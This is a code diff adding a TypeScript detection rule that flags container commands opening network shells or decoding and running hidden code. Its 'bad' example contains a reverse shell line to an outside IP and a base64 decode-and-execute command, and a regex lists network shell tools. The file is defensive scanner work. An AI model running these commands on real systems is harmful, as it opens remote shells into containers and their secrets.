@@ -1,0 +1,64 @@
+import type { ContainerCommand } from '../../../model/containers/container-command.ts';
+import { known } from '../../../model/located.ts';
+import { defineRule } from '../../define-rule.ts';
+import { hiddenIn } from './hidden-code.ts';
+
+export default defineRule({
+  id: 'command-hidden-code',
+  on: 'container',
+  danger: { attacker: 'network', reach: 'service' },
+  profile: 'recommended',
+  precision: 'high',
+  cwe: [506],
+  docs: {
+    title: 'Do not start containers with code that hides what it does',
+    why: 'A shell whose input and output are a network connection, and code that is decoded and run at once: attackers leave these behind in a compose file or a script that they managed to change. At each start they are in the container, with its data and its secrets, and in the networks that it is in.',
+    how: 'Find out who added the line and why, and treat the service as compromised until you know. If it is intended, put the plain code into a file of the repository.',
+    limits:
+      'The rule reads entrypoint, command, health check and hooks, and not scripts in the image. Decoding data into a file is left alone, as are connections that only test whether a port is open. `obfuscated-exec` reports the same in Dockerfiles.',
+    references: [
+      'https://attack.mitre.org/techniques/T1027/',
+      'https://attack.mitre.org/techniques/T1059/004/',
+      'https://cwe.mitre.org/data/definitions/506.html',
+    ],
+  },
+  examples: [
+    {
+      file: 'compose.yaml',
+      bad: `
+        services:
+          app:
+            image: ghcr.io/acme/app:1.4
+            command: bash -c "«bash -i >& /dev/tcp/203.0.113.7/443 0>&1»"
+          job:
+            image: ghcr.io/acme/job:1.4
+            entrypoint: ["sh", "-c", "«echo ZWNobyBoZWxsbwo= | base64 -d | sh»"]
+      `,
+      good: `
+        services:
+          app:
+            image: ghcr.io/acme/app:1.4
+            command: bash -c "timeout 5 bash -c '</dev/tcp/db/5432' && exec app"
+          job:
+            image: ghcr.io/acme/job:1.4
+            entrypoint: ["sh", "-c", "echo aGVsbG8K | base64 -d > /greeting && exec job"]
+      `,
+    },
+  ],
+
+  *check({ name, entrypoint, command, healthcheck, hooks }) {
+    for (const started of [entrypoint, command, healthcheck, ...hooks.map((hook) => hook.command)]) {
+      if (started === undefined || !mayHide(started)) continue;
+      for (const { at, how } of hiddenIn(started.script, false))
+        yield { at, message: `Container "${name}" ${how}, each time it starts.` };
+    }
+  },
+});
+
+const WORDS =
+  /base(?:64|32)|openssl|xxd|uudecode|\brev\b|\btr\b|\/dev\/(?:tcp|udp)|\bn(?:et)?cat\b|\bnc\b|socat|socket|\/inet\/|pwsh|powershell/i;
+
+/** Most commands need not be parsed for this. */
+function mayHide({ words }: ContainerCommand): boolean {
+  return words.some((word) => WORDS.test(known<string>(word) ?? word.pieces ?? ''));
+}
